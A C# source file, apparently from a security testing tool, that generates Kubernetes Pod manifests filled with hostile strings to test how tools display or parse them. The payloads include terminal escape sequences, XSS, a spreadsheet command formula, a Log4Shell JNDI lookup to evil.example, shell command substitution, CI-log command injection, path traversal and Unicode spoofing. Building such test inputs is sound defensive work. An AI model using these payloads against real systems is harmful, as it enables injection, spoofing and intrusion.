using System.Text.Json;

namespace Plumbline.Hostile.Inputs;

/// <summary>Strings that turn against whoever shows them: in names, images, labels, namespaces and the names of files.</summary>
internal sealed class StringInputs
{
    private const string Kind = "string";

    private static readonly string[] Own =
    [
        "\e[2J\e[H\e]0;owned\a",
        "\e]8;;https://evil.example\e\\click\e]8;;\e\\",
        "\u009b31m",
        "a\rOK    all is well",
        "a\nSealed as A-99",
        "a\r\nplumb: note: ok",
        "\u202Eevil\u202C",
        "\u2066a\u2069\u200Bb\u200E",
        "a\bb\bc",
        "\0",
        "[click](https://evil.example)",
        "![x](https://evil.example/x.png)",
        "<script>alert(1)</script>",
        "=cmd|' /C calc'!A0",
        "{0} {1:x} {{",
        "%s %n %1000000d",
        "${jndi:ldap://evil.example}",
        "`id` $(id)",
        "[red]x[/]",
        "[[",
        "::error::x",
        "##vso[task.complete]",
        "a|b|c%7C%",
        "../../../etc/passwd",
        "\uFFFF\uFFFE",
        "\U000E0001\U000E0041",
        "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L",
        "﷽",
        "👩‍👩‍👧‍👦",
        "\"\\\"\\\\",
        new('w', 5_000),
    ];

    private readonly IReadOnlyList<string> _strings;

    /// <param name="list">A JSON list of more strings; null where it is not there.</param>
    public StringInputs(string? list) =>
        _strings = list is null
            ? Own
            : [.. Own, .. JsonSerializer.Deserialize<string[]>(File.ReadAllBytes(list))!.Where(s => s.Length > 0)];

    public HostileInput At(int index)
    {
        var dice = new Dice((ulong)index + 200_001);
        var text = index < _strings.Count ? _strings[index] : dice.Of(_strings) + dice.Of(_strings);
        var pod = new
        {
            apiVersion = "v1",
            kind = "Pod",
            metadata = new
            {
                name = text,
                @namespace = index % 3 == 0 ? text : "shop",
                labels = new Dictionary<string, string> { [text] = text },
            },
            spec = new
            {
                containers = new[]
                {
                    new
                    {
                        name = text,
                        image = text,
                        securityContext = new { privileged = true },
                    },
                },
            },
        };
        return new HostileInput(Kind, ($"{FileName(text)}.json", JsonSerializer.SerializeToUtf8Bytes(pod)));
    }

    /// <summary>As much of the text as a name of a file may hold.</summary>
    private static string FileName(string text)
    {
        var name = text.Replace('/', '_').Replace('\0', '_');
        name = name.Length > 60 ? name[..60] : name;
        return name is "" or "." or ".." || name.Any(char.IsSurrogate) ? "hostile" : name;
    }
}
